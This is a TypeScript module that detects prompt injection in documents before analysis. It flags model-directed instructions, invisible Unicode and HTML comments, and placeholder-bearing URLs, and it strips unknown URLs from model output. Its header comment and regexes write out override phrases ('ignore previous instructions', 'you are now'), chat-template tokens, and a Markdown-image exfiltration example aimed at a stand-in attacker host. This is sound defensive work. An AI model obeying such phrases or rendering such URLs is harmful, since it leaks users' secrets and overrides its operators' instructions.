/**
 * Prompt-injection defence for analyses: flag what in a document looks written for a model rather than a
 * reader, and strip from model output any URL the document does not contain.
 *
 * Flagged (each finding a location in the Markdown):
 * - `instruction`: text addressed to a model — "ignore/disregard/forget previous instructions", "you are now",
 *   talk of a system prompt or developer message, chat-template tokens, requests to output links, images or
 *   keys, or to change the output format/schema (OWASP LLM01 Prompt Injection examples,
 *   https://genai.owasp.org/llmrisk/llm01-prompt-injection/);
 * - `hidden`: text a reader does not see but a model reads — zero-width and invisible format characters
 *   (U+200B–U+200D, U+2060–U+2064, U+FEFF inside text, U+180E), bidirectional overrides (U+202A–U+202E,
 *   U+2066–U+2069, "Trojan Source", CVE-2021-42574), Unicode tag characters (U+E0000–U+E007F, "ASCII
 *   smuggling") and HTML comments left in the Markdown (other than the engine's own `<!-- page N -->`).
 *   Converters already drop the hidden text they can see — HTML `hidden`/`display:none`/comments, DOCX
 *   `w:vanish` runs — so that never reaches an analysis; white-on-white and zero-size text in PDF is not
 *   exposed by the engine (a known gap);
 * - `exfiltration`: a URL whose query string carries a placeholder for data to be filled in (`{…}`,
 *   `{{…}}`, `<…>`, `$VAR`, `[DATA]`, `%7B…%7D`) — the shape of Markdown-image exfiltration, where a model is
 *   asked to render `![](https://attacker/?q={secret})`.
 */
import type { Span } from './document.ts';
import { PAGE_MARKER } from './document.ts';

export type InjectionKind = 'instruction' | 'hidden' | 'exfiltration';

export interface InjectionFinding extends Span {
  kind: InjectionKind;
  /** What matched, for the reader (hidden characters written as U+XXXX). */
  excerpt: string;
  page?: number;
}

export interface AnalysisWarning {
  code: 'prompt_injection_suspected' | 'quotes_unverified' | 'analysis_incomplete' | 'urls_removed';
  message: string;
  /** Where in the Markdown, for `prompt_injection_suspected`. */
  locations?: InjectionFinding[];
}

const INSTRUCTION_PATTERNS: RegExp[] = [
  /\b(?:ignore|disregard|forget|override|bypass)\b[^.\n]{0,40}?\b(?:previous|prior|above|earlier|preceding|all|any|your|the|these|those|system)\b[^.\n]{0,30}?\b(?:instructions?|prompts?|directions?|rules|guidelines|context|constraints)\b/gi,
  /\byou\s+are\s+now\b/gi,
  /\b(?:from\s+now\s+on|new\s+instructions?)\s*[,:]/gi,
  /\b(?:system|developer)\s+(?:prompt|message|instructions?)\b/gi,
  /<\|?\/?(?:system|im_start|im_end|assistant|user|instructions?)\|?>|\[\/?INST\]|<<\/?SYS>>/gi,
  /\b(?:as\s+an?\s+(?:AI|assistant|language\s+model)|(?:you\s+are|act\s+as)\s+an?\s+(?:AI|assistant|language\s+model|chatbot|LLM))\b/gi,
  /\b(?:output|emit|insert|append|render|embed)\b[^.\n]{0,40}?\b(?:links?|urls?|hyperlinks?|markdown\s+images?|image\s+tags?)\b/gi,
  /\b(?:reveal|print|output|send|leak|include|repeat|show)\b[^.\n]{0,40}?\b(?:api[\s_-]?keys?|secret(?:\s+key)?s?|access\s+tokens?|passwords?|credentials|system\s+prompt|your\s+instructions)\b/gi,
  /\b(?:change|modify|replace|switch|alter|ignore)\b[^.\n]{0,30}?\b(?:schema|json\s+(?:structure|format))\b/gi,
];

const HIDDEN_CHARS =
  /[\u200B-\u200D\u2060-\u2064\u180E\u202A-\u202E\u2066-\u2069]+|(?:\uDB40[\uDC00-\uDC7F])+|(?<=\S)\uFEFF/g;
const HTML_COMMENT = /<!--[\s\S]*?(?:-->|$)/g;
const URL = /\b(?:https?|ftp):\/\/[^\s<>"'`)\]]+|\bwww\.[^\s<>"'`)\]]+/gi;
const PLACEHOLDER = /\{[^}]*\}|%7B|<[^>]*>|%3C|\$\w+|\[[A-Z_]{2,}\]|%5B[A-Z_]{2,}%5D/i;

/** The suspicious places of `markdown`, in order. `pageAt` gives pages when the document has them. */
export function findInjection(markdown: string, pageAt?: (offset: number) => number | undefined): InjectionFinding[] {
  const out: InjectionFinding[] = [];
  const add = (kind: InjectionKind, start: number, end: number, excerpt: string) => {
    const page = pageAt?.(start);
    out.push({ kind, start, end, excerpt: excerpt.slice(0, 200), ...(page !== undefined ? { page } : {}) });
  };
  // Escapes are undone for matching only (the same length is kept, so offsets stay true).
  const plain = markdown.replace(/\\([!-/:-@[-`{-~])/g, ' $1');
  for (const re of INSTRUCTION_PATTERNS)
    for (const m of plain.matchAll(re))
      add('instruction', m.index, m.index + m[0].length, markdown.slice(m.index, m.index + m[0].length));
  for (const m of markdown.matchAll(HIDDEN_CHARS)) add('hidden', m.index, m.index + m[0].length, visible(m[0]));
  for (const m of markdown.matchAll(HTML_COMMENT)) {
    if (PAGE_MARKER.test(m[0].trim())) continue;
    add('hidden', m.index, m.index + m[0].length, m[0]);
  }
  for (const m of plain.matchAll(URL)) {
    const url = m[0].replace(/[.,;:!?]+$/, '');
    const q = url.indexOf('?');
    if (q >= 0 && PLACEHOLDER.test(url.slice(q)))
      add('exfiltration', m.index, m.index + url.length, markdown.slice(m.index, m.index + url.length));
  }
  return out.sort((a, b) => a.start - b.start || a.end - b.end);
}

/** The `prompt_injection_suspected` warning for `findings`, or undefined when there are none. */
export function injectionWarning(findings: InjectionFinding[]): AnalysisWarning | undefined {
  if (findings.length === 0) return undefined;
  const kinds = [...new Set(findings.map((f) => f.kind))];
  return {
    code: 'prompt_injection_suspected',
    message: `the document contains text that may be aimed at an AI model (${kinds.join(', ')}: ${findings.length} place${findings.length === 1 ? '' : 's'}); it was treated as data only`,
    locations: findings,
  };
}

function visible(chars: string): string {
  return [...chars].map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`).join(' ');
}

/** The URLs of `text` (scheme URLs, `www.` hosts, `mailto:` addresses), normalized for comparison. */
export function urlsIn(text: string): Set<string> {
  const out = new Set<string>();
  for (const m of text.replace(/\\([!-/:-@[-`{-~])/g, '$1').matchAll(URL)) out.add(normalizeUrl(m[0]));
  for (const m of text.matchAll(/\bmailto:[^\s<>"'`)\]]+/gi)) out.add(normalizeUrl(m[0]));
  return out;
}

function normalizeUrl(url: string): string {
  return url
    .replace(/[.,;:!?]+$/, '')
    .replace(/^www\./i, 'http://www.')
    .replace(/\/$/, '')
    .toLowerCase();
}

/**
 * `text` (model output) without any URL that `documentUrls` (from `urlsIn(markdown)`) lacks: a Markdown
 * image becomes its alt text, a Markdown link its text, a bare URL `[link removed]`. Returns the text and
 * the URLs removed.
 */
export function stripForeignUrls(text: string, documentUrls: Set<string>): { text: string; removed: string[] } {
  const removed: string[] = [];
  const foreign = (url: string) => {
    const n = normalizeUrl(url);
    if (documentUrls.has(n)) return false;
    removed.push(url);
    return true;
  };
  let out = text.replace(/!?\[([^\]]*)\]\(\s*<?([^\s)>]+)>?(?:\s+"[^"]*")?\s*\)/g, (all, label: string, url: string) =>
    /^(?:[a-z][a-z0-9+.-]*:|www\.)/i.test(url) && foreign(url) ? label : all,
  );
  // Sentence punctuation after a bare URL is the sentence's, not the URL's: it stays.
  const bare = (match: string) => {
    const url = match.replace(/[.,;:!?]+$/, '');
    return foreign(url) ? `[link removed]${match.slice(url.length)}` : match;
  };
  out = out.replace(URL, bare);
  out = out.replace(/\bmailto:[^\s<>"'`)\]]+/gi, bare);
  return { text: out, removed };
}
